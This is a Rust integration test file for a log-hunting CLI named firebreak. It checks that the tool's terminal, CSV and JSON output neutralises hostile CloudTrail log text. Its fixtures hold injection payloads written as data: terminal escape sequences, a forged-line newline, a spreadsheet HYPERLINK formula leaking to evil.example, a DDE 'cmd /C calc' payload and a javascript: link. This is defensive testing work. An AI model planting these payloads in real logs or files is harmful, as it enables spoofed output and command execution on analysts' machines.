//! Log text is written by the attacker. Every command that prints log-derived text runs here
//! over a hostile corpus, in every output format: terminals get no escape sequence and no
//! forged line, CSV no control character and no live formula, JSON the exact values.

use std::path::Path;
use std::process::Command;

/// A trail stopped by a principal whose ARN holds a line break (to forge a line), from a
/// user agent that retitles the terminal, naming a trail that is a spreadsheet formula, in a
/// region that is a DDE command; a record whose key is an escape sequence; an event whose
/// time cannot be read.
const ARN: &str = "arn:aws:iam::111122223333:user/alice\nFORGED line";
const AGENT: &str = "\u{1b}]0;pwned\u{7}aws-cli/2 \u{9b}31m";
const TRAIL: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"open\")";
const REGION: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

fn corpus(dir: &Path) -> std::path::PathBuf {
    let event = |id: &str, time: &str, region: &str| {
        serde_json::json!({
            "eventVersion": "1.09",
            "userIdentity": {"type": "IAMUser", "principalId": "AIDAEXAMPLE", "arn": ARN,
                "accountId": "111122223333", "accessKeyId": "AKIAEXAMPLE0000001", "userName": "alice\u{1b}[2J"},
            "eventTime": time, "eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging",
            "awsRegion": region, "sourceIPAddress": "198.51.100.7", "userAgent": AGENT,
            "requestParameters": {"name": TRAIL, "note": "[x](javascript:alert(1))"}, "responseElements": null,
            "requestID": "r-1", "eventID": id, "readOnly": false, "eventType": "AwsApiCall",
            "managementEvent": true, "recipientAccountId": "111122223333"
        })
        .to_string()
    };
    let lines = [
        event("e-1", "2026-01-01T10:36:00Z", REGION),
        event("e-2", "2026-01-01T10:37:00Z", "-2+3"),
        event("e-3", "not a time\u{1b}[31m", "us-east-1"),
        serde_json::json!({"\u{1b}]0;owned\u{7}": 1, "+evil\nFORGED": 2}).to_string(),
        "\u{1b}[2J\u{1b}]0;title\u{7}plain garbage line".to_string(),
    ];
    let path = dir.join("hostile.jsonl");
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
    path
}

fn run(dir: &Path, args: &[&str]) -> (Option<i32>, String, String) {
    let o = Command::new(env!("CARGO_BIN_EXE_firebreak"))
        .current_dir(dir)
        .env_remove("FIREBREAK_DB")
        .env_remove("FIREBREAK_PLAN")
        .env_remove("FIREBREAK_CONFIG")
        .args(args)
        .output()
        .unwrap();
    (
        o.status.code(),
        String::from_utf8(o.stdout).expect("utf-8"),
        String::from_utf8(o.stderr).expect("utf-8"),
    )
}

/// Text for a terminal: no control character but newline, no line the log wrote.
fn assert_terminal_safe(what: &str, text: &str) {
    for (i, c) in text.char_indices() {
        assert!(
            !(('\u{202a}'..='\u{202e}').contains(&c) || c.is_control() && c != '\n'),
            "{what}: raw {c:?} at byte {i}:\n{text}"
        );
    }
    for line in text.lines() {
        assert!(
            !line.trim_start().starts_with("FORGED"),
            "{what}: a forged line:\n{text}"
        );
    }
}

fn assert_csv_safe(what: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a live formula {cell:?}"
            );
            assert!(
                !cell.chars().any(char::is_control),
                "{what}: raw control in {cell:?}"
            );
        }
    }
    assert!(cells > 0, "{what}: no CSV");
    assert!(
        text.contains("'@SUM(1+1)") && text.contains("'-2+3"),
        "{what}: the formulas are shown as text:\n{text}"
    );
}

/// JSON keeps exact values: the hostile strings come back unchanged.
fn assert_json_exact(what: &str, text: &str) {
    let mut values = Vec::new();
    for line in text.lines().filter(|l| !l.trim().is_empty()) {
        values.push(
            serde_json::from_str::<serde_json::Value>(line)
                .unwrap_or_else(|e| panic!("{what}: {e}: {line}")),
        );
    }
    let all = serde_json::to_string(&values).unwrap();
    assert!(
        all.contains(&serde_json::to_string(ARN).unwrap()[1..ARN.len()]),
        "{what}: the ARN is not exact"
    );
    assert!(!text.contains('\u{1b}'), "{what}: JSON escapes controls");
}

#[test]
fn no_log_text_reaches_a_reader_raw() {
    let dir = tempfile::tempdir().unwrap();
    let logs = corpus(dir.path());
    let logs = logs.to_str().unwrap();

    let (code, out, err) = run(dir.path(), &["ingest", logs]);
    assert_eq!(code, Some(0), "{err}");
    assert!(
        out.contains("rejected records:") && out.contains("time unknown"),
        "{out}"
    );
    assert_terminal_safe("ingest summary", &out);
    assert_terminal_safe("ingest stderr", &err);

    let (_, out, err) = run(dir.path(), &["ingest", logs, "--output", "jsonl"]);
    assert_json_exact("ingest jsonl", &out);
    assert_terminal_safe("ingest jsonl stderr", &err);
    // The event whose time cannot be read is counted, not written as (invalid) OCSF.
    let (_, out, err) = run(dir.path(), &["ingest", logs, "--output", "ocsf-jsonl"]);
    assert!(out.lines().count() == 2 && !out.contains('\u{1b}'), "{out}");
    assert!(
        err.contains("not written as OCSF") && err.contains("1 event(s): time unknown"),
        "{err}"
    );

    let (code, out, err) = run(dir.path(), &["hunt", logs, "--no-progress"]);
    assert_eq!(code, Some(1), "alerts fired: {err}");
    assert!(out.contains("CloudTrail Logging Stopped"), "{out}");
    assert!(
        out.contains("time unknown"),
        "alerts of untimed events say so: {out}"
    );
    assert_terminal_safe("hunt table", &out);
    assert_terminal_safe("hunt stderr", &err);

    let (_, out, _) = run(
        dir.path(),
        &["hunt", logs, "--no-progress", "--output", "csv"],
    );
    assert_csv_safe("hunt csv", &out);
    let (_, out, _) = run(
        dir.path(),
        &["hunt", logs, "--no-progress", "--output", "jsonl"],
    );
    assert_json_exact("hunt jsonl", &out);

    let db = dir.path().join("cases.db");
    let db = db.to_str().unwrap();
    let (code, out, err) = run(
        dir.path(),
        &["--db", db, "hunt", logs, "--no-progress", "--cases"],
    );
    assert_eq!(code, Some(1), "{out}{err}");
    assert_terminal_safe("hunt --cases", &(out + &err));
    for args in [
        &["case", "list"][..],
        &["case", "show", "1"],
        &["case", "timeline", "1"],
    ] {
        let mut all = vec!["--db", db];
        all.extend_from_slice(args);
        let (code, out, err) = run(dir.path(), &all);
        assert_eq!(code, Some(0), "{args:?}: {err}");
        assert!(out.contains("alice"), "{args:?} shows the case: {out}");
        assert_terminal_safe(&format!("{args:?}"), &(out + &err));
    }
    let (_, out, _) = run(
        dir.path(),
        &["--db", db, "case", "export", "1", "--format", "csv"],
    );
    assert_csv_safe("case export csv", &out);
    let (_, out, _) = run(
        dir.path(),
        &["--db", db, "case", "export", "1", "--format", "json"],
    );
    assert!(serde_json::from_str::<serde_json::Value>(&out).is_ok() && !out.contains('\u{1b}'));
    assert!(
        out.contains("alice\\nFORGED line"),
        "JSON keeps the exact ARN"
    );
    let (_, out, _) = run(
        dir.path(),
        &["--db", db, "case", "export", "1", "--format", "timesketch"],
    );
    for line in out.lines() {
        serde_json::from_str::<serde_json::Value>(line).expect("timesketch lines are JSON");
    }
    assert!(!out.contains('\u{1b}'));
}

/// A rule that cannot load stops the hunt (exit 2, every problem at file:line:column)
/// unless the user asks to skip invalid rules; then the summary lists them.
#[test]
fn invalid_rules_stop_the_hunt_unless_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let logs = corpus(dir.path());
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("bad.yml"),
        "title: bad\nid: b1\nlogsource:\n  product: aws\ndetection:\n  sel:\n    eventName|nosuchmodifier: x\n  condition: sel\n",
    )
    .unwrap();
    std::fs::write(
        rules.join("worse.yml"),
        "title: worse\nid: b2\nlogsource:\n  product: aws\ndetection:\n  sel:\n    eventName: x\n  condition: sel and nothing\n",
    )
    .unwrap();
    let (logs, rules) = (logs.to_str().unwrap(), rules.to_str().unwrap());
    let (code, out, err) = run(
        dir.path(),
        &["hunt", logs, "--no-progress", "--rules", rules],
    );
    assert_eq!(code, Some(2), "{out}{err}");
    assert!(out.is_empty(), "no alerts are printed: {out}");
    assert!(
        err.contains("bad.yml:7:5:") && err.contains("worse.yml:"),
        "{err}"
    );
    let (code, _, err) = run(
        dir.path(),
        &[
            "hunt",
            logs,
            "--no-progress",
            "--rules",
            rules,
            "--skip-invalid-rules",
        ],
    );
    assert_eq!(code, Some(1), "the valid rules still run: {err}");
    assert_eq!(err.matches("skipped invalid rule: ").count(), 2, "{err}");
}

/// Errors say each thing once.
#[test]
fn errors_say_each_cause_once() {
    let dir = tempfile::tempdir().unwrap();
    let (code, _, err) = run(
        dir.path(),
        &["hunt", "no-such-dir/logs.json", "--no-progress"],
    );
    assert_eq!(code, Some(2));
    assert_eq!(err.matches("(os error 2)").count(), 1, "{err}");
    assert!(err.contains("no-such-dir/logs.json"), "{err}");
}
